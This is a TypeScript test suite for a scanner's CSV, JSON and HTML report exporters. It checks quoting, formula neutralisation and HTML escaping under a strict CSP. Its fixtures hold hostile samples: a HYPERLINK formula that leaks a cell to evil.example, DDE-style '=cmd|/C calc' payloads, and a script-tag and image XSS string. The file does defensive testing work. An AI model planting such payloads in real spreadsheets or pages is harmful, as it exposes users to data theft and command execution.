import { parse } from 'csv-parse/sync';
import { csvReport, neutraliseFormula } from '../../../src/reports/csv.ts';
import { DETAILED_FINDINGS, htmlReport } from '../../../src/reports/html.ts';
import { jsonReport } from '../../../src/reports/json.ts';
import type { Finding } from '../../../src/reports/model.ts';
import { parseCsvWithPython } from '../../support/python-csv.ts';
import { collect, context, finding, stream } from './fixtures.ts';

const nasty = finding({
  title: '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
  description: 'line one, with a comma\nline two with "quotes"\r\nand a CRLF',
  evidence: { value: '+SUM(1,2)', note: '@cmd' },
  affected_assets: [
    { type: 'url', value: 'https://example.com/a,b' },
    { type: 'url', value: 'https://example.com/"q"' },
  ],
  recommended_fix: { summary: '-1 is not a formula here', steps: ['step, one', 'step "two"'] },
});
const plain = finding({ check_id: 'seo.title_missing', domain: 'seo', severity: 'medium', title: 'Page has no title', priority_score: 40 });

const multiLineFix = finding({
  title: 'Fix in steps',
  recommended_fix: { summary: 'Do this', steps: ['first\nstill the first', 'second'] },
  evidence: { list: [1, -2], text: 'a;=cmd|/C calc', nested: { n: -3 } },
});
const COLUMN_COUNT = 21;

describe('CSV', () => {
  it('Python\'s csv module (no guessing) reads one record per finding, every field as written', async () => {
    const text = await collect(csvReport(stream([nasty, plain, multiLineFix])));
    const rows = await parseCsvWithPython(text);
    expect(rows.map((r) => r.length)).toEqual([COLUMN_COUNT, COLUMN_COUNT, COLUMN_COUNT, COLUMN_COUNT]);
    const [header, first, , third] = rows as [string[], string[], string[], string[]];
    const cell = (row: string[], column: string) => row[header.indexOf(column)];
    expect(header.slice(0, 4)).toEqual(['id', 'severity', 'status', 'priority_score']);
    expect(cell(first, 'id')).toBe(nasty.id);
    expect(cell(first, 'description')).toBe(nasty.description);
    expect(cell(first, 'recommended_fix')).toBe("'-1 is not a formula here\n1. step, one\n2. step \"two\"");
    expect(cell(third, 'recommended_fix')).toBe('Do this\n1. first\nstill the first\n2. second');
    expect(JSON.parse(cell(third, 'evidence')!)).toEqual({ list: [1, -2], text: "a;'=cmd|/C calc", nested: { n: -3 } });
  });

  it('quotes every field, so a bare LF inside one never ends a record, and csv-parse with CRLF fixed agrees', async () => {
    const text = await collect(csvReport(stream([nasty, plain, multiLineFix])));
    expect(text.endsWith('\r\n')).toBe(true);
    // Every record is quoted fields joined by commas: each line of the file starts with a quote.
    const records: string[][] = parse(text, { record_delimiter: '\r\n', relax_quotes: false });
    expect(records).toHaveLength(4);
    // The whole file is quoted fields ("" inside), each followed by a comma or CRLF: nothing bare.
    expect(text).toMatch(/^(?:"(?:[^"]|"")*"(?:,|\r\n))+$/);
    expect(text).toMatch(/^"id","severity","status","priority_score",/);
    const rows: Record<string, string>[] = parse(text, { columns: true, record_delimiter: '\r\n' });
    const [first, second] = rows as [Record<string, string>, Record<string, string>];
    expect(first.urls).toBe('https://example.com/a,b\nhttps://example.com/"q"');
    // Inside JSON a value starts after a quote, never right after a separator: nothing to neutralise.
    expect(JSON.parse(first.evidence!)).toEqual({ value: '+SUM(1,2)', note: '@cmd' });
    expect(first.priority_score).toBe('80');
    expect(second).toMatchObject({ id: plain.id, severity: 'medium', check_id: 'seo.title_missing', title: 'Page has no title', first_seen_scan_id: plain.first_seen_scan_id });
  });

  it('neutralises cells that a spreadsheet would run as a formula, at the start and after every separator', async () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const separator of [',', ';', '\t', '\r', '\n']) expect(neutraliseFormula(`a${separator}=cmd|' /C calc'!A0`)).toBe(`a${separator}'=cmd|' /C calc'!A0`);
    expect(neutraliseFormula('a;;@SUM(1)')).toBe("a;;'@SUM(1)");
    expect(neutraliseFormula('a=1; b = 2')).toBe('a=1; b = 2');
    const hostile = finding({ title: 'ok;=cmd|/C calc!A0', description: 'x,+1\n-2\t@3' });
    const [, row] = await parseCsvWithPython(await collect(csvReport(stream([hostile]))));
    // Read as a `;`-, `,`- or tab-separated file, or split at line breaks, no cell starts a formula.
    for (const field of row!) for (const piece of field.split(/[,;\t\r\n]/)) expect(piece).not.toMatch(/^[=+\-@]/);
    const [parsed] = parse(await collect(csvReport(stream([nasty]))), { columns: true }) as Record<string, string>[];
    expect(parsed!.title).toBe(`'${nasty.title}`);
  });

  it("uses the check's own fix when the AI wrote none", async () => {
    const [row] = parse(await collect(csvReport(stream([plain]))), { columns: true }) as Record<string, string>[];
    expect(row!.recommended_fix).toMatch(/^Give the page a unique, descriptive <title>\.\n1\. /);
  });

  it('has the header alone when there are no findings', async () => {
    expect(await parseCsvWithPython(await collect(csvReport(stream([]))))).toHaveLength(1);
  });
});

describe('JSON', () => {
  it("holds the findings in the API's shape, in the given order, and the scan summary", async () => {
    const doc = JSON.parse(await collect(jsonReport(context([nasty, plain]), stream([nasty, plain]))));
    expect(doc.findings.map((f: { id: string }) => f.id)).toEqual([nasty.id, plain.id]);
    expect(doc.findings[0]).toMatchObject({ id: nasty.id, priority: { score: 80 }, inserted_at: '2025-06-10T10:00:00.000Z', recommended_fix: nasty.recommended_fix });
    expect(doc.summary).toMatchObject({ health_score: 72, open_findings: 2, verification_pass_rate: 0.84, regression_rate: 0.12, findings_in_report: 2 });
    expect(doc.summary.latest_scan.summary.summary).toBe('A few findings.');
    expect(doc.scan_runs).toHaveLength(1);
    expect(doc.report.id).toBe(context([]).report.id);
  });

  it('is valid JSON with no findings', async () => {
    expect(JSON.parse(await collect(jsonReport(context([]), stream([])))).findings).toEqual([]);
  });
});

describe('HTML', () => {
  const ofSeverity = (all: Finding[]) => (severity: string) => stream(all.filter((f) => f.severity === severity));

  it('is one self-contained page: no script, no external asset, a CSP that forbids fetching', async () => {
    const evil = finding({ title: '<script>alert(1)</script><img src="https://evil.example/x.png">', severity: 'critical' });
    const html = await collect(htmlReport(context([evil, plain]), ofSeverity([evil, plain])));
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:"`);
    expect(html).not.toMatch(/<(script|img|link|iframe|object|embed|base)\b/i);
    expect(html).not.toMatch(/<[^>]+\s(src|srcset|background)=/i);
    expect(html).not.toMatch(/@import|url\(/i);
    expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
  });

  it('has the summary, the health score, and the findings grouped by severity with evidence and fixes', async () => {
    const low = finding({ severity: 'low', title: 'Low one', priority_score: 10 });
    const critical = finding({ severity: 'critical', title: 'Critical one', priority_score: 95 });
    const html = await collect(htmlReport(context([low, plain, critical]), ofSeverity([low, plain, critical])));
    expect(html).toMatch(/<b>72<\/b><span>health score<\/span>/);
    const order = ['id="critical"', 'Critical one', 'id="medium"', 'Page has no title', 'id="low"', 'Low one'].map((s) => html.indexOf(s));
    expect(order.every((i, n) => i > 0 && (n === 0 || i > order[n - 1]!))).toBe(true);
    expect(html).not.toContain('id="high"');
    expect(html).toContain('<dt>header</dt><dd>strict-transport-security</dd>');
    expect(html).toContain('Give the page a unique, descriptive &#60;title&#62;.'); // seo.title_missing's own fix
    expect(html).toContain('<a href="https://example.com/">https://example.com/</a>');
  });

  it('shows the first findings in full and the rest one line each', async () => {
    const many = Array.from({ length: DETAILED_FINDINGS + 3 }, (_, i) => finding({ severity: 'high', title: `Finding ${i}`, priority_score: 99 }));
    const html = await collect(htmlReport(context(many), ofSeverity(many)));
    expect(html.match(/<tr><td class="n">/g)).toHaveLength(DETAILED_FINDINGS);
    expect(html).toContain('3 more high findings, one line each');
    expect(html).toMatch(/\n\s+253\s+99  security\.hsts_missing\s+Finding 252\s+https:\/\/example\.com\/\n/);
  });

  it('says so when there is nothing to fix', async () => {
    expect(await collect(htmlReport(context([]), ofSeverity([])))).toContain('No findings');
  });
});
